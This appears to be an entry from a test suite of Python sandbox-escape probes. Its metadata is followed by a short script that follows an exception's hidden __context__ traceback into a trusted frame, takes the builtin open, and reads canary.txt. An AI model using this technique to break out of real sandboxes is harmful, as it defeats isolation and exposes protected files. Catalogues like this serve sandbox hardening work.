# id: exception-context-kept-by-from-none
# family: exceptions
# kind: information-leak
# invariant: C, D, E
# origin: found while probing CPython
# technique: raise ... from None hides the inner error from display only; __context__ still leads to a trusted module's frame
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import json

try:
    json.loads("")
except ValueError as error:
    inner = error.__context__.__traceback__
print(inner.tb_frame.f_builtins["open"]("canary.txt").read())
